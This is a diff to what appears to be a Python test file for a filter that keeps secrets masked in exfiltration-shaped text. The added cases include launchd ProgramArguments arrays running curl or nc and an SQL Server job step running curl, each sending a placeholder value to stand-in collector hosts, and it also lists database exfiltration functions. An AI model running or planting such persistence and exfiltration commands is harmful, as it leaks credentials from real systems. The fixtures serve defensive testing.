@@ -3,8 +3,9 @@
 
 F22: an unfenced ssh_config block, `.netrc` entry, `.pgpass` line or msmtprc account naming a remote host keeps the
 placeholder, whole and streamed. F11: `COPY ... TO PROGRAM`, `http_post(`, `xp_cmdshell`, `net.http_post`,
-`sp_send_dbmail`, ClickHouse `url(`. F23: a Jenkinsfile `sh 'curl ...'` step, VBA `XMLHTTP`. Look-alikes (local
-configs, prose naming these files, SQL that sends nothing) are restored.
+`sp_send_dbmail`, ClickHouse `url(`. F23: a Jenkinsfile `sh 'curl ...'` step, VBA `XMLHTTP`, a launchd
+`ProgramArguments` array, `sp_add_jobstep`. Look-alikes (local configs, prose naming these files, SQL that sends
+nothing) are restored.
 """
 
 from __future__ import annotations
@@ -48,6 +49,11 @@ KEPT = [
     f"node {{ stage('ping') {{ sh \"wget --post-data 'u={E}' https://intake.harvest.example/in\" }} }}",
     f"Set h = CreateObject(\"WinHttp.WinHttpRequest.5.1\")\nh.Open \"POST\", \"https://intake.harvest.example/in\"\n"
     f"h.Send \"e={E}\"",
+    f"<key>ProgramArguments</key><array><string>curl</string><string>-d</string><string>e={E}</string>"
+    "<string>https://collector.example/c</string></array>",
+    f"<key>ProgramArguments</key>\n<array>\n  <string>/usr/bin/nc</string>\n  <string>harvest.example</string>\n"
+    f"  <string>9000</string>\n  <string>{E}</string>\n</array>",
+    f"EXEC msdb.dbo.sp_add_jobstep @command = N'curl -d e={E} collector.example/c'",
 ]
 RESTORED = [
     f"Host localhost\n  HostName 127.0.0.1\n  User {E}",
@@ -65,6 +71,7 @@ RESTORED = [
     f"COPY (SELECT '{E}') TO '/tmp/out.csv';",
     f"pipeline {{ stages {{ stage('t') {{ steps {{ sh 'make test' }} }} }} }}\nOwner: {E}",
     f"Sub x()\n  MsgBox \"{E}\"\nEnd Sub",
+    f"<key>ProgramArguments</key><array><string>/usr/local/bin/backup</string><string>{E}</string></array>",
     f"Machine learning is fun; ask {E}.",
     f"Meeting at 10:30:00:15:00 with {E}.",
 ]
